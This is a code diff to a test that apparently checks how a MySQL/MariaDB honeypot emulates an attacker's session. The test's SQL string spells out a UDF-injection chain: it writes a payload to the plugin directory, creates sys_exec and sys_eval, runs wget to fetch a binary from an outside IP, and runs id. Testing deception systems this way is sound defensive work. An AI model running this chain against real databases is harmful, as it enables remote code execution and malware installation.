@@ -53,7 +53,8 @@ def mysql_mariadb_client_session(ctx):
     sql = ("select @@version; select version(), user(); show databases; use mysql; show tables; "
            "select 0x%s into dumpfile '/usr/lib/mysql/plugin/udf.so'; "
            "create function sys_exec returns integer soname 'udf.so'; "
-           "select sys_exec('wget http://198.51.100.23/bins/x86 -O /tmp/x')" % payload.hex())
+           "select sys_exec('wget http://198.51.100.23/bins/x86 -O /tmp/x'); "
+           "create function sys_eval returns string soname 'udf.so'; select sys_eval('id')" % payload.hex())
     r = subprocess.run(["mariadb", "-h", "127.0.0.1", "-P", str(port), "-u", "root", "-pS3cr3t!pw", "shop",
                         "-e", sql], capture_output=True, stdin=subprocess.DEVNULL, timeout=T(20))
     assert r.returncode == 0, r.stderr
@@ -61,7 +62,10 @@ def mysql_mariadb_client_session(ctx):
     version = identity(d, "mysql_version")
     shown = version[6:] if version.startswith("5.5.5-") else version
     assert shown in out and "information_schema" in out and "root@127.0.0.1" in out, out
-    d.wait_event(lambda e: e["eventid"] == "command.input" and "sys_exec(" in e.get("input", "")
+    # sys_exec: wget's status on the emulated box (it cannot connect: 4); sys_eval: id's line (mysql)
+    assert out.rstrip("\n").split("\n")[-3:] == ["4", "sys_eval('id')",
+                                                  "uid=1001(mysql) gid=1001(mysql) groups=1001(mysql)\\n"], out
+    d.wait_event(lambda e: e["eventid"] == "command.input" and "sys_eval(" in e.get("input", "")
                  and e["input"].startswith("select"), what="last statement")
     evs = stop_and_read(d)
     lg = logins(evs)
